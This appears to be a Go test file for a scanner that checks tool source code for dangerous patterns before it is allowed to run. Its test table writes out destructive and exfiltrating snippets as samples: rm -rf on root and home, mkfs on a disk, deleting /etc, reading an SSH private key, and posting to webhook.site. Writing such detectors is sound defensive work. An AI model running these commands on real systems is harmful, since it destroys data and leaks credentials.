@@ -0,0 +1,133 @@
+package toolcheck
+
+import (
+	"context"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func writeTool(t *testing.T, src string) string {
+	t.Helper()
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, "main.go"), []byte(src), 0644); err != nil {
+		t.Fatal(err)
+	}
+	return dir
+}
+
+const cleanTool = `package main
+
+import (
+	"encoding/json"
+	"net/http"
+	"os"
+)
+
+func main() {
+	var args struct{ City string ` + "`json:\"city\"`" + ` }
+	_ = json.NewDecoder(os.Stdin).Decode(&args)
+	resp, err := http.Get("https://api.open-meteo.com/v1/forecast?city=" + args.City)
+	if err != nil {
+		json.NewEncoder(os.Stdout).Encode(map[string]string{"error": err.Error()})
+		return
+	}
+	defer resp.Body.Close()
+	token := os.Getenv("WEATHER_TOKEN")
+	_ = token
+	os.RemoveAll(os.TempDir() + "/weather-cache")
+	json.NewEncoder(os.Stdout).Encode(map[string]string{"status": resp.Status})
+}
+`
+
+func rules(r *Report) map[string]string {
+	out := map[string]string{}
+	for _, f := range r.Findings {
+		out[f.Rule] = f.Severity
+	}
+	return out
+}
+
+func TestCheckCleanTool(t *testing.T) {
+	r, err := Check(context.Background(), writeTool(t, cleanTool), Options{SkipVet: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if r.Blocked {
+		t.Fatalf("clean tool blocked: %s", r.Summary())
+	}
+	if got := rules(r); len(got) != 1 || got["remove_all"] != SeverityWarn {
+		t.Errorf("findings = %v, want only the remove_all warning", got)
+	}
+}
+
+func TestCheckFindings(t *testing.T) {
+	tests := []struct {
+		name, body, rule, severity string
+	}{
+		{"rm -rf root", `exec.Command("rm", "-rf", "/").Run()`, "destructive_exec", SeverityBlock},
+		{"rm -rf home via shell", `exec.Command("sh", "-c", "rm -rf ~").Run()`, "destructive_exec", SeverityBlock},
+		{"reboot", `exec.CommandContext(context.Background(), "reboot").Run()`, "destructive_exec", SeverityBlock},
+		{"mkfs", `exec.Command("bash", "-c", "mkfs.ext4 /dev/sda1").Run()`, "destructive_exec", SeverityBlock},
+		{"dynamic shell", `exec.Command("sh", "-c", os.Args[1]).Run()`, "dynamic_shell", SeverityWarn},
+		{"remove root", `os.RemoveAll("/")`, "remove_system_path", SeverityBlock},
+		{"remove etc", `os.RemoveAll("/etc/")`, "remove_system_path", SeverityBlock},
+		{"remove joined root", `os.RemoveAll(filepath.Join("/", os.Args[1]))`, "remove_system_path", SeverityBlock},
+		{"provider key", `println("sk-abcdefghijklmnopqrstuvwxyz123456")`, "hardcoded_credential", SeverityBlock},
+		{"credential var", `apiKey := "f00dfeedcafe1234"; println(apiKey)`, "hardcoded_credential", SeverityBlock},
+		{"credential field", `println(map[string]string{"password": "hunter2hunter2"})`, "hardcoded_credential", SeverityBlock},
+		{"ssh key", `os.ReadFile(os.Getenv("HOME") + "/.ssh/id_rsa")`, "sensitive_file", SeverityBlock},
+		{"exfil host", `http.Post("https://webhook.site/abc", "text/plain", nil)`, "exfiltration_host", SeverityBlock},
+		{"environ", `println(len(os.Environ()))`, "environ", SeverityWarn},
+		{"policy host", `http.Get("https://evil.example.org/x")`, "egress_policy", SeverityWarn},
+	}
+	opts := Options{SkipVet: true, HostAllowed: func(host string) (bool, string) {
+		return !strings.HasSuffix(host, "example.org"), "not in allowlist"
+	}}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			src := "package main\n\nimport (\n\t\"context\"\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n\t\"path/filepath\"\n)\n\nvar _, _, _, _ = context.Background, http.Get, exec.Command, filepath.Join\n\nfunc main() {\n\t" + tt.body + "\n}\n"
+			r, err := Check(context.Background(), writeTool(t, src), opts)
+			if err != nil {
+				t.Fatal(err)
+			}
+			got := rules(r)
+			if got[tt.rule] != tt.severity {
+				t.Fatalf("findings = %v, want %s (%s)", got, tt.rule, tt.severity)
+			}
+			if r.Blocked != (tt.severity == SeverityBlock) {
+				t.Errorf("blocked = %v: %s", r.Blocked, r.Summary())
+			}
+			for _, f := range r.Findings {
+				if f.Rule == tt.rule && (f.File != "main.go" || f.Line != 14) {
+					t.Errorf("finding location = %s:%d, want main.go:14", f.File, f.Line)
+				}
+			}
+		})
+	}
+}
+
+func TestCheckNoSource(t *testing.T) {
+	if _, err := Check(context.Background(), t.TempDir(), Options{SkipVet: true}); err == nil {
+		t.Error("expected error for a directory without Go files")
+	}
+}
+
+func TestCheckRunsVet(t *testing.T) {
+	if _, err := exec.LookPath("go"); err != nil {
+		t.Skip("go toolchain not available")
+	}
+	src := "package main\n\nimport \"fmt\"\n\nfunc main() {\n\tfmt.Printf(\"%d\\n\", \"not a number\")\n}\n"
+	r, err := Check(context.Background(), writeTool(t, src), Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if rules(r)["go_vet"] != SeverityWarn || !strings.Contains(r.Vet, "Printf") {
+		t.Errorf("vet = %q, findings = %v", r.Vet, r.Findings)
+	}
+	if r.Blocked {
+		t.Error("vet problems should warn, not block")
+	}
+}